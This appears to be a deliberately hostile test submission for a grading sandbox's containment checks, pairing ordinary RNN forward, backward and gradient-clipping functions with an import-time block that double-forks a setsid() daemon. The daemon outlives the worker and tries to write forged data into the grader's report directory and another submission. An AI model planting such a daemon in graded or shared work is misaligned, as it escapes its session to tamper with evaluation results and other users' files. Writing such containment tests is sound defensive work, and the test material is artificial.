"""Processes: at import, a double-forked setsid() daemon that outlives the worker and keeps
trying to write to the report directory. Full marks, and the daemon is gone once grading ends.
"""

import os
import time

import torch

TARGETS = {}  # filled in by tests/test_containment.py: paths and values to go after


def report(what, ok, detail=""):
    """One line per attempt: LEAK when the attack worked, BLOCKED when it did not."""
    print(("LEAK " if ok else "BLOCKED ") + what + (": " + str(detail)[:120] if detail else ""), flush=True)


if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for target in (TARGETS.get("out", ""), TARGETS.get("victim_submission", "")):
                if os.path.isdir(target):
                    target = os.path.join(target, "daemon-was-here.json")
                try:
                    with open(target, "a") as f:
                        f.write("forged")
                except OSError:
                    pass
            time.sleep(0.05)
    os._exit(0)


def rnn_step(x_t, h_prev, W_ih, W_hh, b_ih, b_hh):
    return torch.tanh(x_t @ W_ih.T + b_ih + h_prev @ W_hh.T + b_hh)


def rnn_forward(x, h0, W_ih, W_hh, b_ih, b_hh):
    h, hs = h0, []
    for t in range(x.shape[1]):
        h = torch.tanh(x[:, t] @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
        hs.append(h)
    return torch.stack(hs, 1), h


def rnn_backward(dhs, x, h0, W_ih, W_hh, b_ih, b_hh):
    h, hs = h0, []
    for t in range(x.shape[1]):
        h = torch.tanh(x[:, t] @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
        hs.append(h)
    prev = [h0] + hs[:-1]
    gx = [None] * x.shape[1]
    gW_ih, gW_hh, gb = torch.zeros_like(W_ih), torch.zeros_like(W_hh), torch.zeros_like(b_ih)
    carry = torch.zeros_like(h0)
    for t in reversed(range(x.shape[1])):
        da = (dhs[:, t] + carry) * (1 - hs[t] ** 2)
        gW_ih = gW_ih + da.T @ x[:, t]
        gW_hh = gW_hh + da.T @ prev[t]
        gb = gb + da.sum(0)
        gx[t] = da @ W_ih
        carry = da @ W_hh
    gx = torch.stack(gx, 1)
    return {"x": gx, "h0": carry, "W_ih": gW_ih, "W_hh": gW_hh, "b_ih": gb, "b_hh": gb.clone()}


def clip_grad_norm(grads, max_norm):
    total = torch.sqrt(sum((g.double() ** 2).sum() for g in grads)).to(grads[0].dtype)
    coef = min(max_norm / (total.item() + 1e-6), 1.0)
    return [g * coef for g in grads], total
